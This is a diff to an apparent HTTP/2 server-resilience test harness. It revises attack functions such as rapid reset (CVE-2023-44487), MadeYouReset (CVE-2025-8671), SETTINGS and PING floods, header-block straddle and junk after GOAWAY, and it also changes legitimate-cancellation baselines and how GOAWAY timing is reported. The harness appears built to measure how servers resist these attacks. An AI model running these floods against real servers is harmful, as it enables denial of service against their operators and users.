@@ -22,7 +22,7 @@ import sys
 import time
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from h2raw import (CONTINUATION, Conn, END_STREAM, HOST, PING, PREFACE, S_INITIAL_WINDOW_SIZE,  # noqa: E402
+from h2raw import (CONTINUATION, Conn, HOST, PING, PREFACE, S_INITIAL_WINDOW_SIZE,  # noqa: E402
                    S_MAX_CONCURRENT_STREAMS, SETTINGS, continuation, data, error_name, frame, frame_header,
                    headers, hp_literal, nonblocking_connect_many, ping, priority, priority_update,
                    request_block, rst_stream, settings, wait_fd, window_update)
@@ -112,11 +112,21 @@ def hold(ctx, conns, on_tick=None, tick=0.1):
 
 
 def loop_send(ctx, c, payload, frames, units, read=True, ctl_at=0, block_timeout=1.0):
-    """Send the same batch until the deadline or until the server closes."""
+    """Send the same batch until the deadline or until the server closes.
+    Without reading, a FIN from the server is noticed with POLLRDHUP."""
+    fin = None
     while ctx.running() and c.alive():
         c.send(payload, frames=frames, units=units, read=read, ctl_at=ctl_at, block_timeout=block_timeout)
         if read:
             c.pump()
+        elif fin is None and wait_fd(c.sock, read=False, rdhup=True) & select.POLLRDHUP:
+            fin = ctx.elapsed()
+    if not read:
+        mib = c.bytes_sent / 2**20
+        if fin is not None:
+            ctx.notes.append(f'server FIN at {fin:.2f} s; {mib:,.0f} MiB accepted by then and after')
+        else:
+            ctx.notes.append(f'{mib:,.0f} MiB accepted')
     if c.blocked and not c.closed:
         ctx.notes.append('server stopped reading (send blocked)')
 
@@ -125,7 +135,16 @@ def fmt(n):
     return f'{n:,}'
 
 
-def result(ctx, conns, unit, must_not_cut_off=False, **extra):
+def by_stream(per_stream=1.0, what=None):
+    """GOAWAY text for attacks with one stream per unit: the server's last
+    stream id says how many it processed (what we had sent is larger)."""
+    def text(g, unit):
+        n = int((g['last_stream_id'] + 1) // 2 * per_stream)
+        return f'at ~{fmt(n)} {what or unit} (last stream {fmt(g["last_stream_id"])}; {fmt(g["units"])} sent)'
+    return text
+
+
+def result(ctx, conns, unit, must_not_cut_off=False, after=None, **extra):
     sums = [c.summary() for c in conns]
     n = len(conns)
     units = sum(s['units'] for s in sums)
@@ -143,8 +162,8 @@ def result(ctx, conns, unit, must_not_cut_off=False, **extra):
         g = first_goaway
         dbg = f' "{g["debug"][:40]}"' if g['debug'] else ''
         if n == 1:
-            parts.append(f'GOAWAY {g["error"]}{dbg} after {fmt(g["units"])} {unit} sent '
-                         f'(last stream {fmt(g["last_stream_id"])}, {g["t"]:.1f} s)')
+            where = after(g, unit) if after else f'within {fmt(g["units"])} {unit} sent'
+            parts.append(f'GOAWAY {g["error"]}{dbg} {where} at {g["t"]:.2f} s')
         else:
             codes = ', '.join(f'{k} {v}/{n}' for k, v in goaway_codes.items())
             parts.append(f'GOAWAY {codes} conns{dbg} (first at {g["t"]:.1f} s)')
@@ -199,7 +218,12 @@ def _straddle(ctx, chunks, batch, priming=None, unit='requests'):
         return b''.join(continuation(s, ch, end_headers=j == last) for j, ch in enumerate(chunks[1:], 1))
 
     c.send(head(sid), frames=1, ctl_at=None)
+    opened = c.units + 1
     while ctx.running() and c.alive() and sid < 0x7fff0000:
+        # at most ~96 streams in flight (the servers allow 100): a client
+        # over the limit is refused, which is not this attack
+        c.pump_until(lambda: opened - c.finished() <= max(1, 96 - batch), 2.0)
+        opened += batch
         parts = []
         ctl_at = None
         for _ in range(batch):
@@ -213,7 +237,7 @@ def _straddle(ctx, chunks, batch, priming=None, unit='requests'):
         c.pump()
     c.drain(0.3)
     ctx.notes.append(f'{fmt(c.statuses.get(200, 0))} answered 200')
-    return result(ctx, [c], unit, responses_200=c.statuses.get(200, 0))
+    return result(ctx, [c], unit, after=by_stream(), responses_200=c.statuses.get(200, 0))
 
 
 @attack('straddle-60k', 'Header-block straddle, 60 KB literal header lists', 'requests', kind='memory')
@@ -264,10 +288,20 @@ def settings_iws_flip(ctx):
     ctx.notes.append(f'{len(opened)} streams open')
     payload = b''.join(struct.pack('>HI', S_INITIAL_WINDOW_SIZE, 1 - (i & 1)) for i in range(2730))
     f = frame(SETTINGS, 0, 0, payload)
-    loop_send(ctx, c, f * 4, frames=4, units=4 * 2730)
+    base = c.settings_acks
+    sent = 0
+    while ctx.running() and c.alive():
+        # a client that reads its ACKs: at most 8 frames unacknowledged
+        c.pump_until(lambda: sent - (c.settings_acks - base) <= 4, 2.0)
+        c.send(f * 4, frames=4, units=4 * 2730)
+        sent += 4
+        c.pump()
     c.drain(0.3)
-    ctx.notes.append(f'{fmt(c.settings_acks)} SETTINGS ACKed')
-    return result(ctx, [c], 'entries', settings_acked=c.settings_acks)
+    acked = c.settings_acks - base
+    ctx.notes.append(f'{fmt(acked)} of these SETTINGS ACKed')
+    return result(ctx, [c], 'entries', settings_acked=acked,
+                  after=lambda g, u: f'after {fmt((g["settings_acks"] - base) * 2730)} entries processed '
+                                     f'({fmt(g["settings_acks"] - base)} frames ACKed, {fmt(g["units"])} sent)')
 
 
 # ------------------------------------------------------------------ 3. rapid reset
@@ -287,27 +321,32 @@ def rapid_reset(ctx):
         c.send(burst, frames=2000, units=1000)
         c.pump()
     c.drain(0.3)
-    return result(ctx, [c], 'resets')
+    return result(ctx, [c], 'resets', after=by_stream())
 
 
 @attack('rapid-reset-alternating', 'Rapid reset bypass: one reset request, one completed request, alternating',
         'resets', kind='rapid-reset', cve='CVE-2023-44487')
 def rapid_reset_alternating(ctx):
-    """Bursts of 500 x (HEADERS + RST_STREAM on one stream, then a complete
-    GET /index.html on the next), responses read: resets minus completions
-    stays at zero."""
+    """Writes of 40 x (HEADERS + RST_STREAM on one stream, then a complete
+    GET /index.html on the next), the next write once the completed
+    requests are answered: resets minus completions stays at zero."""
     c = Conn(ctx.port)
     handshake(c)
     blk = request_block()
     sid = 1
+    completed = 0
     while ctx.running() and c.alive() and sid < 0x7fff0000:
-        burst = b''.join(headers(s, blk) + rst_stream(s) + headers(s + 2, blk) for s in range(sid, sid + 2000, 4))
-        sid += 2000
-        c.send(burst, frames=1500, units=500)
+        # 40 pairs per write, the next write once those completed requests
+        # are answered: never over the server's 100 concurrent streams
+        c.pump_until(lambda: completed - c.finished() <= 8, 2.0)
+        burst = b''.join(headers(s, blk) + rst_stream(s) + headers(s + 2, blk) for s in range(sid, sid + 160, 4))
+        sid += 160
+        completed += 40
+        c.send(burst, frames=120, units=40)
         c.pump()
     c.drain(0.3)
     ctx.notes.append(f'{fmt(c.statuses.get(200, 0))} completed requests answered 200')
-    return result(ctx, [c], 'resets', responses_200=c.statuses.get(200, 0))
+    return result(ctx, [c], 'resets', after=by_stream(0.5), responses_200=c.statuses.get(200, 0))
 
 
 # ------------------------------------------------------------------ 4. legitimate cancellation patterns
@@ -317,7 +356,7 @@ def rapid_reset_alternating(ctx):
         'cancels', kind='legit', legit=True)
 def legit_longpoll_cancel(ctx):
     """One stream at a time: GET /big.bin at window 0 (a response that
-    never finishes: a long-poll), wait for its response HEADERS, 2 ms more,
+    never finishes: a long-poll), wait for its response HEADERS, 4 ms more,
     RST_STREAM CANCEL, next. Must never be cut off."""
     c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)])
     handshake(c)
@@ -329,11 +368,12 @@ def legit_longpoll_cancel(ctx):
         c.send(headers(sid, blk), frames=1)
         if not c.pump_until(lambda: w['headers'] or w['rst'] is not None, 2.0):
             unanswered += 1
-        time.sleep(0.002)
+        time.sleep(0.004)
         c.send(rst_stream(sid), frames=1, units=1)
         del c.watch[sid]
         sid += 2
     c.drain(0.2)
+    ctx.notes.append(f'{fmt(c.units)} cancels, {c.units / max(ctx.elapsed(), 0.1):.0f}/s')
     if unanswered:
         ctx.notes.append(f'{unanswered} long-polls not answered within 2 s')
     return result(ctx, [c], 'cancels', must_not_cut_off=True, unanswered=unanswered)
@@ -367,7 +407,9 @@ def legit_cancel_60pct(ctx):
         for s in ws:
             del c.watch[s]
     c.drain(0.2)
-    ctx.notes.append(f'{fmt(cancels)} cancelled, {fmt(c.statuses.get(200, 0))} answered 200')
+    rate = c.units / max(ctx.elapsed(), 0.1)
+    ctx.notes.append(f'{fmt(c.units)} requests ({rate:.0f}/s), {fmt(cancels)} cancelled, '
+                     f'{fmt(c.statuses.get(200, 0))} answered 200')
     return result(ctx, [c], 'requests', must_not_cut_off=True, cancels=cancels)
 
 
@@ -459,7 +501,8 @@ def ping_flood_read(ctx):
         c.pump_until(lambda: c.ping_acks >= c.units, 2.0)
     c.drain(0.3)
     ctx.notes.append(f'{fmt(c.ping_acks)} PING ACKs')
-    return result(ctx, [c], 'pings', ping_acks=c.ping_acks)
+    return result(ctx, [c], 'pings', ping_acks=c.ping_acks,
+                  after=lambda g, u: f'after {fmt(g["ping_acks"])} PINGs answered ({fmt(g["units"])} sent)')
 
 
 @attack('ping-flood-noread', 'PING flood, never reading the ACKs', 'pings', kind='control',
@@ -472,7 +515,8 @@ def ping_flood_noread(ctx):
     loop_send(ctx, c, batch, frames=2000, units=2000, read=False, block_timeout=0.5)
     c.drain(1.0)
     ctx.notes.append(f'{fmt(c.ping_acks)} PING ACKs read at the end')
-    return result(ctx, [c], 'pings', ping_acks=c.ping_acks)
+    return result(ctx, [c], 'pings', ping_acks=c.ping_acks,
+                  after=lambda g, u: f'after {fmt(g["ping_acks"])} PINGs answered')
 
 
 # ------------------------------------------------------------------ 7. CVE-2019-951x
@@ -490,7 +534,12 @@ def data_dribble(ctx):
     ctx.notes.append(f'{len(opened)} streams open')
     if opened:
         rnd = b''.join(window_update(s, 1) for s in opened) + window_update(0, len(opened))
-        loop_send(ctx, c, rnd, frames=len(opened) + 1, units=len(opened) + 1)
+        rounds = 0
+        while ctx.running() and c.alive():
+            c.pump_until(lambda: c.data_bytes >= (rounds - 4) * len(opened), 2.0)
+            c.send(rnd, frames=len(opened) + 1, units=len(opened) + 1)
+            rounds += 1
+            c.pump()
     c.drain(0.3)
     ctx.notes.append(f'{fmt(c.recv_frames.get(0, 0))} DATA frames, {fmt(c.data_bytes)} octets received')
     return result(ctx, [c], 'window-updates')
@@ -534,8 +583,9 @@ def reset_flood_invalid(ctx):
         c.send(b''.join(headers(s, blk) for s in range(sid, sid + 2000, 2)), frames=1000, units=1000,
                read=False, block_timeout=0.5)
         sid += 2000
+    ctx.notes.append(f'{c.bytes_sent / 2**20:,.0f} MiB accepted')
     c.drain(1.0)
-    return result(ctx, [c], 'requests')
+    return result(ctx, [c], 'requests', after=by_stream())
 
 
 @attack('settings-flood', 'SETTINGS flood, ACKs never read', 'frames', kind='control', cve='CVE-2019-9515')
@@ -547,7 +597,7 @@ def settings_flood(ctx):
               block_timeout=0.5)
     c.drain(1.0)
     ctx.notes.append(f'{fmt(c.settings_acks)} SETTINGS ACKs read at the end')
-    return result(ctx, [c], 'frames')
+    return result(ctx, [c], 'frames', after=lambda g, u: f'after {fmt(g["settings_acks"] - 1)} SETTINGS ACKed')
 
 
 @attack('zero-length-headers', 'Requests with 1,000 zero-length header fields', 'requests', kind='memory',
@@ -561,11 +611,12 @@ def zero_length_headers(ctx):
     blk = request_block(extra=b'\x40\x00\x00' * 500 + b'\x00\x80\x80' * 500)
     sid = 1
     while ctx.running() and c.alive() and sid < 0x7fff0000:
+        c.pump_until(lambda: c.units - c.finished() <= 40, 2.0)
         c.send(b''.join(headers(s, blk) for s in range(sid, sid + 20, 2)), frames=10, units=10)
         sid += 20
         c.pump()
     c.drain(0.3)
-    return result(ctx, [c], 'requests')
+    return result(ctx, [c], 'requests', after=by_stream())
 
 
 @attack('window0-many-streams', 'Slow reader: 20 connections x 100 streams of 16 MiB at window 0', 'streams',
@@ -618,41 +669,43 @@ def _wait_close_unread(ctx, c):
 # ------------------------------------------------------------------ 8. MadeYouReset
 
 
-@attack('madeyoureset-window', 'MadeYouReset: HEADERS + stream WINDOW_UPDATE overflow', 'requests',
+@attack('madeyoureset-window', 'MadeYouReset: HEADERS + stream WINDOW_UPDATE overflow, 40 per write', 'requests',
         kind='rapid-reset', cve='CVE-2025-8671')
 def madeyoureset_window(ctx):
-    """500 x (GET /index.html + WINDOW_UPDATE 2^31-1 on the same stream)
-    per write: the overflow is a stream error, so the server resets a
+    """40 x (GET /index.html + WINDOW_UPDATE 2^31-1 on the same stream)
+    per write (at most ~50 streams in flight): the overflow is a stream error, so the server resets a
     stream the application already started (no RST_STREAM from us)."""
     c = Conn(ctx.port)
     handshake(c)
     blk = request_block()
     sid = 1
     while ctx.running() and c.alive() and sid < 0x7fff0000:
-        c.send(b''.join(headers(s, blk) + window_update(s, 0x7fffffff) for s in range(sid, sid + 1000, 2)),
-               frames=1000, units=500)
-        sid += 1000
+        c.pump_until(lambda: c.units - c.finished() <= 10, 2.0)
+        c.send(b''.join(headers(s, blk) + window_update(s, 0x7fffffff) for s in range(sid, sid + 80, 2)),
+               frames=80, units=40)
+        sid += 80
         c.pump()
     c.drain(0.3)
-    return result(ctx, [c], 'requests')
+    return result(ctx, [c], 'requests', after=by_stream())
 
 
 @attack('madeyoureset-content-length', 'MadeYouReset: POST content-length 0 + 1 octet of DATA', 'requests',
         kind='rapid-reset', cve='CVE-2025-8671')
 def madeyoureset_content_length(ctx):
-    """500 x (POST /echo with content-length: 0, then DATA of 1 octet with
-    END_STREAM) per write: malformed (RFC 9113 §8.1.1), the server resets."""
+    """40 x (POST /echo with content-length: 0, then DATA of 1 octet with
+    END_STREAM) per write (at most ~50 streams in flight): malformed (RFC 9113 §8.1.1), the server resets."""
     c = Conn(ctx.port)
     handshake(c)
     blk = request_block(b'POST', b'/echo', hp_literal(28, b'0'))
     sid = 1
     while ctx.running() and c.alive() and sid < 0x7fff0000:
+        c.pump_until(lambda: c.units - c.finished() <= 10, 2.0)
         c.send(b''.join(headers(s, blk, end_stream=False) + data(s, b'x', end_stream=True)
-                        for s in range(sid, sid + 1000, 2)), frames=1000, units=500)
-        sid += 1000
+                        for s in range(sid, sid + 80, 2)), frames=80, units=40)
+        sid += 80
         c.pump()
     c.drain(0.3)
-    return result(ctx, [c], 'requests')
+    return result(ctx, [c], 'requests', after=by_stream())
 
 
 # ------------------------------------------------------------------ 9. CONTINUATION floods
@@ -812,34 +865,56 @@ def idle_connections(ctx):
 # ------------------------------------------------------------------ 12. after GOAWAY
 
 
-@attack('junk-after-goaway', 'Junk after GOAWAY: keep sending after a connection error', 'MiB sent',
+@attack('junk-after-goaway', 'Junk after GOAWAY: keep sending after a connection error', 'MiB',
         kind='timeouts')
 def junk_after_goaway(ctx):
     """A PING on stream 1 (connection error PROTOCOL_ERROR), then 256 KiB of
-    junk per write for as long as the server takes it; the socket is read.
-    Measures the octets the server accepted after its GOAWAY and when it
-    closed."""
+    junk per write for as long as the server takes it. Measures what the
+    server accepted after its GOAWAY, when it half-closed (FIN) and when it
+    really closed (a send fails) or stopped reading."""
     c = Conn(ctx.port)
     handshake(c)
     c.send(frame(PING, 0, 1, b'\0' * 8), frames=1)
-    c.pump_until(lambda: c.goaways or c.closed, 2.0)
+    c.pump_until(lambda: c.goaways or c.rx_done, 2.0)
     g_t = c.goaways[0]['t'] if c.goaways else None
-    at = c.bytes_sent
-    junk = random.Random(1).randbytes(1 << 18)
-    while ctx.running() and c.alive():
-        c.send(junk, block_timeout=0.5)
-        c.pump()
-    after = c.bytes_sent - at
-    c.units = after >> 20
     if g_t is None:
         ctx.notes.append('no GOAWAY for a PING on stream 1')
-    if c.closed:
-        ctx.notes.append(f'closed {c.closed_t - (g_t or 0):.2f} s after GOAWAY, '
-                         f'{after / 2**20:.1f} MiB sent after it')
+    t_err = ctx.elapsed()
+    junk = random.Random(1).randbytes(1 << 18)
+    sock = c.sock
+    after = 0
+    fin_t = reset_t = stalled_t = None
+    while ctx.running():
+        ev = wait_fd(sock, read=not c.rx_done, write=True, timeout=0.5)
+        if ev & select.POLLIN and not c.rx_done:
+            c.pump()
+            if c.rx_done and fin_t is None:
+                fin_t = ctx.elapsed()
+        if ev & (select.POLLOUT | select.POLLERR | select.POLLHUP):
+            try:
+                after += sock.send(junk)
+                stalled_t = None
+            except BlockingIOError:
+                pass
+            except OSError:
+                reset_t = ctx.elapsed()
+                break
+        elif not ev & select.POLLIN and stalled_t is None:
+            stalled_t = ctx.elapsed()
+    c.units = after >> 20
+    parts = []
+    if fin_t is not None:
+        parts.append(f'FIN {fin_t - t_err:.2f} s after the error')
+    parts.append(f'{after / 2**20:,.1f} MiB accepted after GOAWAY')
+    if reset_t is not None:
+        parts.append(f'connection reset {reset_t - t_err:.2f} s after the error')
+    elif stalled_t is not None:
+        parts.append(f'server stopped reading {stalled_t - t_err:.2f} s after the error')
     else:
-        ctx.notes.append(f'still open {ctx.elapsed():.1f} s after GOAWAY, {after / 2**20:.1f} MiB accepted after it'
-                         + ('; server stopped reading' if c.blocked else ''))
-    return result(ctx, [c], 'MiB sent', junk_after_goaway=after)
+        parts.append(f'still reading at the end ({ctx.elapsed() - t_err:.1f} s)')
+    ctx.notes.append('; '.join(parts))
+    return result(ctx, [c], 'MiB', junk_after_goaway=after, fin_after=fin_t and fin_t - t_err,
+                  reset_after=reset_t and reset_t - t_err, after=lambda g, u: 'for the error')
 
 
 @attack('goaway-unread', 'GOAWAY the peer never reads (output blocked, then a connection error)', 'streams',
@@ -964,15 +1039,15 @@ def _parse_frames(b):
     return out
 
 
-@attack('binary-garbage', 'Binary garbage on the cleartext port (40 connections, 1 KiB each)', 'connections',
+@attack('binary-garbage', 'Binary garbage on the cleartext port (20 connections, 1 KiB each)', 'connections',
         kind='protocol')
 def binary_garbage(ctx):
     """Connections spread over the run, each sending 1 KiB of random octets
     (first octet 0x01: neither a preface nor an HTTP/1.1 request line) and
-    reading the answer for 0.5 s: GOAWAY PROTOCOL_ERROR (RFC 9113 §3.4),
+    reading the answer for 0.3 s: GOAWAY PROTOCOL_ERROR (RFC 9113 §3.4),
     a close, or nothing."""
     rng = random.Random(3)
-    n = 40
+    n = 20
     answers = collections.Counter()
     for i in range(n):
         if not ctx.running():
@@ -990,7 +1065,7 @@ def binary_garbage(ctx):
             pass
         got = b''
         eof = False
-        end = time.monotonic() + 0.5
+        end = time.monotonic() + 0.3
         while time.monotonic() < end:
             wait_fd(s, read=True, timeout=max(0.0, end - time.monotonic()))
             try:
